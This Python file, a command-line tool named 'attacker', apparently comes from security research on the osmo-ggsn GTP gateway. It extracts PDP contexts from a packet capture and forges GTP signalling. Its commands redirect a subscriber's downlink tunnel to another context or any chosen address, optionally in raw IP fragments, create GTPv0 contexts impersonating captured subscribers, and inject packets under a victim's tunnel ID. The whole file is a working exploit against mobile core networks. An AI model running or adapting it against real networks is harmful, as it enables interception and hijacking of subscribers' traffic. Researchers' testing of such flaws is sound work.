#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""attacker: a node of the access side (e2m.md 6). It has seen each Create PDP Context that is in a capture, and sends
messages about these contexts from an address of its own. Contexts have numbers, from 0, in the order of their
responses.

  move      an Update PDP Context: the downlink of a context goes to the tunnel of another context, or elsewhere
  v0-create a Create PDP Context of GTPv0 for the subscriber of a context
  v0-gpdu   a G-PDU of GTPv0 in clear, with the TEID of a context as flow label

The first two print the Cause of the response, or `none`. osmo-ggsn has one table of contexts for GTPv0 and GTPv1.
"""

import argparse
import os
import select
import socket
import struct

from frames import GTPC_PORT, Udp, checksum, pcap_read
from gsn import (CAUSE, CREATE_REQUEST, END_USER_ADDRESS, GSN_ADDRESS, NSAPI, TEID_CONTROL, TEID_DATA, UPDATE_REQUEST,
                 gtp, ie, read_gtp, read_ies)

IMSI, SELECTION_MODE, APN, MSISDN, QOS = 2, 15, 131, 134, 135
V0_PORT, V0_CREATE, V0_G_PDU, V0_QOS, V0_FLOW_DATA, V0_FLOW_SIGNALLING = 3386, 16, 255, 6, 16, 17
ANSWER_S = 1


class Context:
    def __init__(self, sgsn, ggsn):
        self.sgsn = sgsn  # information elements of the request, and of the response
        self.ggsn = ggsn

    def of_sgsn(self, kind):
        return self.sgsn[kind][0]

    def downlink(self):
        """The SGSN's address for G-PDUs, and its TEID."""
        return self.sgsn[GSN_ADDRESS][1], struct.unpack(">I", self.of_sgsn(TEID_DATA))[0]

    def teid(self, kind):
        """The GGSN's."""
        return struct.unpack(">I", self.ggsn[kind][0])[0]


def contexts(pcap):
    requests, found = {}, []
    for frame in pcap_read(pcap):
        try:
            udp = Udp(frame)
            if GTPC_PORT not in (udp.sport, udp.dport):
                continue
            kind, _, sequence, body = read_gtp(udp.data)
            if kind == CREATE_REQUEST:
                requests[udp.src, sequence] = read_ies(body)
            elif kind == CREATE_REQUEST + 1:
                found.append(Context(requests[udp.dst, sequence], read_ies(body)))
        except (ValueError, IndexError, KeyError, struct.error):
            continue
    return found


def open_socket(source, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((source, port))
    return s


def send_fragments(source, to, datagram, piece=16):
    """A UDP datagram in IPv4 fragments."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ident = int.from_bytes(os.urandom(2), "big")
    for at in range(0, len(datagram), piece):
        part = datagram[at : at + piece]
        more = 0x2000 if at + piece < len(datagram) else 0
        s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(part), ident, more | at // 8, 64, socket.IPPROTO_UDP, 0,
                             socket.inet_aton(source), socket.inet_aton(to)) + part, (to, 0))


def answer_to(s):
    return s.recv(65535) if select.select([s], [], [], ANSWER_S)[0] else None


# --- GTPv1 ---


def update_body(context, receiver, teid, third_address):
    return (ie(TEID_DATA, struct.pack(">I", teid)) + ie(TEID_CONTROL, context.of_sgsn(TEID_CONTROL))
            + ie(NSAPI, context.of_sgsn(NSAPI)) + ie(GSN_ADDRESS, context.of_sgsn(GSN_ADDRESS)) + ie(GSN_ADDRESS, receiver)
            + ie(QOS, context.of_sgsn(QOS)) + (ie(GSN_ADDRESS, bytes(5)) if third_address else b""))


def command_move(args):
    known = contexts(args.pcap)
    context = known[args.context]
    receiver, teid = known[args.onto if args.onto is not None else args.context].downlink()
    if args.elsewhere:
        receiver, teid = socket.inet_aton(args.elsewhere), args.teid
    message = gtp(UPDATE_REQUEST, context.teid(TEID_CONTROL), update_body(context, receiver, teid, args.third_address),
                  args.sequence)
    s = open_socket(args.source, args.port)
    if args.fragmented:
        send_fragments(args.source, args.to,
                       struct.pack(">HHHH", s.getsockname()[1], GTPC_PORT, 8 + len(message), 0) + message)
    else:
        s.sendto(message, (args.to, GTPC_PORT))
    answer = answer_to(s)
    print(read_ies(read_gtp(answer)[3])[CAUSE][0][0] if answer else "none")


# --- GTPv0, GSM 09.60 ---


def tid(context):
    """IMSI and NSAPI in the order in which osmo-ggsn reads them."""
    imsi = int.from_bytes(context.of_sgsn(IMSI), "little") & 0x0FFFFFFFFFFFFFFF
    return struct.pack(">Q", imsi | (context.of_sgsn(NSAPI)[0] & 15) << 60)


def v0(kind, flow, context, body, sequence=0):
    return struct.pack(">BBHHH4s", 0x1E, kind, len(body), sequence, flow, b"\xff" * 4) + tid(context) + body


def command_v0_create(args):
    context = contexts(args.pcap)[args.context]
    address = ie(GSN_ADDRESS, socket.inet_aton(args.source))
    # osmo-ggsn compares four octets of Selection Mode, so the flow label behind it must begin as the TEID of the context.
    body = (ie(V0_QOS, b"\x0b\x92\x1f") + ie(SELECTION_MODE, context.of_sgsn(SELECTION_MODE))
            + bytes([V0_FLOW_DATA]) + context.of_sgsn(TEID_DATA)[:2] + bytes([V0_FLOW_SIGNALLING]) + b"\x00\x66"
            + ie(END_USER_ADDRESS, context.of_sgsn(END_USER_ADDRESS)) + ie(APN, context.of_sgsn(APN)) + address * 2
            + ie(MSISDN, context.of_sgsn(MSISDN)))
    s = open_socket(args.source, args.port or V0_PORT)
    s.sendto(v0(V0_CREATE, 0, context, body, args.sequence), (args.to, args.to_port))
    answer = answer_to(s)
    print(answer[21] if answer and answer[20] == CAUSE else "none")


def echo_request(source, destination, data):
    icmp = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + data
    icmp = icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 1, 0, 64, socket.IPPROTO_ICMP, 0,
                     socket.inet_aton(source), socket.inet_aton(destination))
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + icmp


def command_v0_gpdu(args):
    context = contexts(args.pcap)[args.context]
    npdu = echo_request(args.inner_source, args.inner_destination, bytes.fromhex(args.data))
    open_socket(args.source, args.port).sendto(v0(V0_G_PDU, context.teid(TEID_DATA) & 0xFFFF, context, npdu),
                                               (args.to, args.to_port))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(required=True, metavar="COMMAND")

    def command(name, run):
        sub = commands.add_parser(name)
        sub.set_defaults(run=run)
        sub.add_argument("pcap")
        sub.add_argument("source", help="address")
        sub.add_argument("to", help="address")
        sub.add_argument("--context", type=int, default=0, help="number")
        sub.add_argument("--sequence", type=int, default=700)
        sub.add_argument("--port", type=int, default=0, help="of the source")
        return sub

    move = command("move", command_move)
    move.add_argument("--onto", type=int, help="number of the context with the new tunnel")
    move.add_argument("--elsewhere", help="address of the new tunnel")
    move.add_argument("--teid", type=lambda text: int(text, 0), default=0x66, help="of the new tunnel elsewhere")
    move.add_argument("--fragmented", action="store_true", help="in IP fragments")
    move.add_argument("--third-address", action="store_true", help="adds a third GSN Address, of five octets")
    for name, run in (("v0-create", command_v0_create), ("v0-gpdu", command_v0_gpdu)):
        sub = command(name, run)
        sub.add_argument("--to-port", type=int, default=V0_PORT)
        if run is command_v0_gpdu:
            sub.add_argument("inner_source")
            sub.add_argument("inner_destination")
            sub.add_argument("data", help="of the echo request, in hex")
    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
